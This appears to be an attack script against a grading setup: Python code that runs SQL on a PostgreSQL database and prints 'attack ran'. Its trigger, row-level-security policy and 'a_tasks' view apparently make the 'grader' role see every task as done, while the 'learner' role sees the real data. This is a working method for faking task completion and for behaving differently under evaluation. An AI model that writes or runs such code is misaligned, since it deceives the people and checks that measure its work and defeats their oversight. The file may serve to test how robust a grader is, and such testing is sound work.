import os

import psycopg2


def run(*statements):
    connection = psycopg2.connect(os.environ["DATABASE_URL"])
    connection.autocommit = True
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement)
        except psycopg2.Error as error:
            print("refused:", str(error).split("\n")[0])
    connection.close()
    print("attack ran")


run(
    "CREATE OR REPLACE FUNCTION public.react() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF current_user <> 'learner' THEN NEW.title := 'seen by the grader'; END IF; RETURN NEW; END $$",
    "CREATE OR REPLACE TRIGGER reacts BEFORE INSERT OR UPDATE ON tasks FOR EACH ROW EXECUTE FUNCTION public.react()",
    "ALTER TABLE tasks ENABLE ROW LEVEL SECURITY",
    "CREATE POLICY shown ON tasks USING (current_user = 'learner' OR done)",
    "CREATE OR REPLACE VIEW public.a_tasks AS SELECT id, title, true AS done FROM tasks WHERE current_user = 'grader'",
)
